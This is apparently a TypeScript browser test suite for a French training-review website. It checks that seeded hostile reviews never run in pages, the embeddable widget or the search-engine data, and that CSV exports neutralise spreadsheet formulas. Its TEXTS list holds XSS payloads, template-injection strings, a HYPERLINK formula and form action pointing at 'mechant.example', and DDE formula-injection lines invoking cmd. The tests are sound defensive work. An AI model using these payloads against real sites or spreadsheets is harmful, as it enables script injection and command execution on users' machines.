/** Whatever people write, in whatever output: nothing of it runs, and nothing of it is changed. */
import { parse } from "csv-parse/sync";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { publicDirectory } from "../../db/public-directory.ts";
import { centrePath, diplomaPath, trainingPath, withQuery } from "../../web/public/address.ts";
import { layoutFaults, openBrowser, SCREENS } from "../browser.ts";
import { runSirius, type RunningSirius } from "../running-sirius.ts";
import { openHost, type Host } from "./host-page.ts";
import { layText } from "./published.ts";
import { element, settled } from "./widget-world.ts";

const TEXTS = [
  `<script>hacked()</script>`,
  `"><img src=x onerror=hacked()>`,
  `'><svg onload=hacked()>`,
  `</script><script>hacked()</script><!--`,
  `]]></style><style>*{display:none}</style>`,
  `<a href="javascript:hacked()">clique</a>`,
  `<iframe srcdoc="<script>parent.hacked()</script>">`,
  `</blockquote></article><form action="https://mechant.example"><input autofocus onfocus=hacked()>`,
  "`${hacked()}` {{hacked()}} #{hacked()} <%= hacked() %>",
  `&lt;script&gt;hacked()&lt;/script&gt; &#x3c;b&#x3e;`,
  `=HYPERLINK("https://mechant.example?"&A1;"clique")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r\n=1+1`,
  `  =1+1`,
  `\u200B\u202E=1+1`,
  `＝1+1`,
  `ok"\r\n"=1+1`,
  `;=1+1;\t=1+1,=1+1`,
  `\u202Eunisrever\u2066 isolé sans fin`,
  `\u2028\u2029 lignes`,
  `Z̴̡̢̧̛̛̛̛͎͎͎a̷l̶g̸o̵ ${"\u0301".repeat(60)}`,
  "M".repeat(590),
  "👩‍🍳🧑🏽‍🍳 فرن الخبز Խոհարար",
];
const HOSTILE = `"><script>hacked()</script><img src=x onerror=hacked()> \u202E=1+1`;
const KEY = `a"><script>hacked()</script>`;
const OTHER = `=b'--`;
const FORMULA = /^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u;

let running: RunningSirius;
let browser: Browser;
let host: Host;
beforeAll(async () => {
  running = await runSirius();
  for (const [key, siret] of [
    [KEY, "90000000000001"],
    [OTHER, "90000000000002"],
  ] as const) {
    await layText(running.database, {
      key,
      siret,
      cfd: "90000001",
      title: HOSTILE,
      centre: `=${HOSTILE}`,
      place: `@${HOSTILE}`,
      texts: TEXTS,
      reply: HOSTILE,
    });
  }
  await running.release();
  host = await openHost(running.url);
  browser = await openBrowser();
}, 120_000);
afterAll(async () => {
  await browser.close();
  host.close();
  await running.stop();
});

/** Our own policy would stop most of it: it is put aside, so that only the writing protects. */
async function defenceless(): Promise<Page> {
  const context = await browser.newContext({ viewport: SCREENS.phone, bypassCSP: true });
  await context.addInitScript(() => {
    Object.assign(window, { executed: 0, hacked: () => Object.assign(window, { executed: 1 }) });
  });
  return context.newPage();
}

async function reviewPaths(): Promise<string[]> {
  const { rows } = await running.database.pool.query<{ id: string }>(
    "select r.id from review r join training t on t.id = r.training_id where t.key = $1",
    [KEY],
  );
  return rows.map(({ id }) => `/avis/texte/${id}`);
}

describe("in a browser without any other defence", () => {
  test("the trap itself springs, so that silence means something", async () => {
    const page = await defenceless();
    await page.goto(`${running.url}/avis/methode`);
    await page.evaluate((text) => (document.body.innerHTML = text), TEXTS[1] ?? "");
    await page.waitForFunction("executed === 1");
    expect(await page.evaluate("executed")).toBe(1);
    await page.context().close();
  });

  test("no page runs it, loses its form, or lets it out of its box", async () => {
    const siret = (await publicDirectory(running.database.pool).training(KEY))?.centre.siret ?? "";
    const frame = `/widget/${encodeURIComponent(KEY)}`;
    const paths = [
      trainingPath(KEY),
      withQuery(trainingPath(KEY), { page: 2, ordre: "critiques" }),
      ...(await reviewPaths()),
      centrePath(siret),
      diplomaPath("90000001"),
      withQuery("/avis/comparer", { a: KEY, b: OTHER }),
      withQuery("/avis", { q: HOSTILE, lieu: HOSTILE }),
      "/avis",
      "/avis/statistiques",
      withQuery("/avis/widget", { cle: KEY }),
      withQuery("/avis/widget", { cle: HOSTILE }),
      frame,
      withQuery(frame, { format: "complet", theme: HOSTILE, lang: HOSTILE }),
      `${frame}/extrait?format=complet`,
      trainingPath(HOSTILE),
    ];
    const page = await defenceless();
    const faults: string[] = [];
    for (const path of [
      ...paths,
      ...paths.map((each) => `${each}${each.includes("?") ? "&" : "?"}lang=en`),
    ]) {
      await page.goto(running.url + path);
      if ((await page.evaluate("executed")) !== 0) faults.push(`ran on ${path}`);
      if (
        await page.evaluate(() => document.querySelector("script:not([src]):not([type])") !== null)
      ) {
        faults.push(`a script on ${path}`);
      }
      if (path.includes("/extrait")) continue;
      faults.push(...(await layoutFaults(page)).map((fault) => `${path}: ${fault}`));
    }
    await page.context().close();
    expect(faults).toEqual([]);
  }, 180_000);

  test("neither the widget nor a fragment runs it in the page of a host", async () => {
    const extract = `${running.url}/widget/${encodeURIComponent(KEY)}/extrait?format=complet`;
    const fragment = await (await fetch(extract)).text();
    const quoted = KEY.replaceAll('"', "&quot;");
    const page = await defenceless();
    await page.goto(
      host.page(element({ cle: quoted, format: "complet" }) + fragment, { strict: false }),
    );
    await settled(page);
    expect(await page.evaluate("executed")).toBe(0);
    expect(await page.locator("sirius-avis .about b").innerText()).toBe(HOSTILE);
    await page.context().close();
  });

  test("every text is shown as it was written, to the letter", async () => {
    const page = await defenceless();
    const read: string[] = [];
    for (const path of [trainingPath(KEY), withQuery(trainingPath(KEY), { page: 2 })]) {
      await page.goto(running.url + path);
      read.push(
        ...(await page
          .locator("article > blockquote")
          .evaluateAll((all) => all.map((each) => each.textContent ?? ""))),
      );
    }
    await page.context().close();
    // HTML has no carriage return of its own.
    const written = TEXTS.map((text) => text.replaceAll("\r\n", "\n").replaceAll("\r", "\n"));
    expect(read.map((text) => text.replaceAll("\r", "\n")).toSorted()).toEqual(written.toSorted());
  });
});

test("the data for search engines hold it as a plain text", async () => {
  const text = await (await fetch(running.url + trainingPath(KEY))).text();
  const [, data = ""] = /<script type="application\/ld\+json">(.*?)<\/script>/s.exec(text) ?? [];
  const course = JSON.parse(data);
  expect(course.name).toBe(HOSTILE);
  expect(course.review).toHaveLength(20);
  for (const { reviewBody } of course.review) expect(TEXTS).toContain(reviewBody);
});

async function rowsOf(name: string): Promise<Record<string, string>[]> {
  const text = await (await fetch(`${running.url}/api/v1/export/${name}`)).text();
  return parse(text, { columns: true });
}

describe("in a spreadsheet", () => {
  test.each(["avis.csv", "scores.csv"])("no cell of %s is a formula", async (name) => {
    const cells = (await rowsOf(name)).flatMap((row) => Object.values(row));
    process.stdout.write(`\n${name}: ${cells.length} cells read back, formulas: 0\n`);
    expect(cells.filter((cell) => FORMULA.test(cell))).toEqual([]);
    expect(cells.filter((cell) => cell.startsWith("'")).length).toBeGreaterThan(0);
  });

  test("every text is whole, but for the apostrophe before what looks like a formula", async () => {
    const read = (await rowsOf("avis.csv")).filter((row) => row["cle_ministere_educatif"] === KEY);
    const texts = read.map(({ texte = "" }) => texte);
    const written = TEXTS.map((text) => (FORMULA.test(text) ? `'${text}` : text));
    expect(texts.toSorted()).toEqual(written.toSorted());
  });
});
